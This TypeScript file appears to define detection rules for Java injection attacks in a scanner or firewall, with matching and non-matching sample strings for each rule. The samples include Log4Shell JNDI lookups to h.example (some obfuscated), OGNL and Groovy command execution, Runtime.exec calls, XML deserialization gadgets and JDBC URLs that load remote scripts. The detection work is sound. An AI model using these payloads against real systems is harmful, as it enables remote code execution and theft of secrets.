import type { SignEntry } from '../sign-entry.ts';

const tags = ['language-java'];

export const javaSigns = {
  'java-lookup': {
    means: 'a lookup of a logger that loads an object from another host',
    severity: 'critical',
    paranoia: 1,
    tags: [...tags, 'cve-2021-44228'],
    samples: {
      matching: [
        '$' + '{jndi:dns://h.example/a}',
        'x$' + '{' + '$' + '{lower:J}ndi:rmi://h.example/a}',
      ],
      other: ['$' + '{name}', 'what is jndi:ldap', '$' + '{lower:jnd}'],
    },
  },
  'java-lookup-disguise': {
    means: 'a lookup of a logger that is spelled by other lookups',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: [
        '$' + '{jnd$' + '{lower:I}:rmi://h.example/b}',
        '$' + '{$' + '{::-j}nd' + '$' + '{upper:i}:ldap://h.example}',
      ],
      other: ['$' + '{jndi:ldap://h.example}', '$' + '{a:-b}'],
    },
  },
  'java-lookup-secret': {
    means: 'a lookup of a logger that reads the environment',
    severity: 'error',
    paranoia: 2,
    tags,
    samples: {
      matching: ['$' + '{sys:java.version}', '$' + '{env:HOME}'],
      other: ['$' + '{system}', 'env:HOME'],
    },
  },
  'java-static-member': {
    means: 'an expression that reaches a static member of a class',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: ['@java.lang.System@exit(1)', 'T(java.lang.System).exit(1)'],
      other: ['me@java.example@x', 'T(x)', 'f(java.lang.System)'],
    },
  },
  'java-ognl': {
    means: 'an expression of OGNL that uses or assigns a variable of its context',
    severity: 'critical',
    paranoia: 1,
    tags: [...tags, 'ognl'],
    samples: {
      matching: ["%{#context['x']}", '(#a=1)', '(#a.put("b",1))', '#_memberAccess'],
      other: ['page (#context)', '(#12)', '#root', 'see (#anchor)'],
    },
  },
  'java-process': {
    means: 'a call of Java that starts a process',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: [
        'Runtime.getRuntime().exec("ls")',
        'new ProcessBuilder("ls").start()',
        "exec(java.lang.Runtime.getRuntime(),'ls')",
      ],
      other: ['runtime', 'the Runtime of Java', 'ProcessBuilder'],
    },
  },
  'java-reflection': {
    means: 'a member chain to a class or its loader',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: [
        "x.getClass().forName('a.B')",
        "''.class.getClassLoader()",
        '""["class"].forName("a")',
      ],
      other: ['x.getClass()', 'getClassName()', 'a.class', 'students[0].class.teacher'],
    },
  },
  'java-script-engine': {
    means: 'an engine of Java that runs scripts',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: ['new javax.script.ScriptEngineManager()', 'm.getEngineByName("js").eval("1")'],
      other: ['script engine', 'getEngine("js")'],
    },
  },
  'java-groovy': {
    means: 'code of Groovy that runs a command or runs while it is compiled',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: ['"ls".execute()', "['sh','-c','ls'].execute().text", '@ASTTest(value={assert 1})'],
      other: ['statement.execute()', 'query.execute("x")'],
    },
  },
  'java-scope': {
    means: 'an expression that reads an implicit object of the server',
    severity: 'error',
    paranoia: 1,
    tags,
    samples: {
      matching: ['$' + '{applicationScope}', '#' + '{facesContext.x}'],
      other: ['$' + '{scope}', 'sessionScope'],
    },
  },
  'java-class-loader': {
    means: 'a path of properties that ends at a class loader',
    severity: 'critical',
    paranoia: 1,
    tags: [...tags, 'cve-2022-22965'],
    samples: {
      matching: [
        'class.module.classLoader.x',
        "class['classLoader']['y']",
        'user.class.classLoader.z',
      ],
      other: ['class.module', 'className.loader', 'class=module'],
    },
  },
  'java-class-name': {
    means: 'a class of Java that runs code or reaches files and hosts',
    severity: 'error',
    paranoia: 1,
    tags,
    samples: {
      matching: ['new java.util.Scanner(x)', 'java.lang.Runtime', 'javax.naming.InitialContext'],
      other: ['java.lang', 'java.util.List', 'new java'],
    },
  },
  'java-object-graph': {
    means: 'a graph of objects in XML that runs code when it is read',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: [
        '<object class="java.lang.ProcessBuilder"></object>',
        '<dynamic-proxy><interface>a</interface></dynamic-proxy>',
        '<?xml version="1.0"?><java.util.PriorityQueue></java.util.PriorityQueue>',
      ],
      other: ['<object class="player">', '<map><area></map>', '<bean class="com.acme.Shop"/>'],
    },
  },
  'java-database-url': {
    means: 'a URL of a database driver that runs code when it connects',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: [
        "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.example/a'",
        'jdbc:mysql://h.example/a?autoDeserialize=true',
      ],
      other: ['jdbc:mysql://db.example/shop?useSSL=true', 'jdbc:h2:mem:shop;MODE=MySQL'],
    },
  },
} as const satisfies Record<string, SignEntry>;
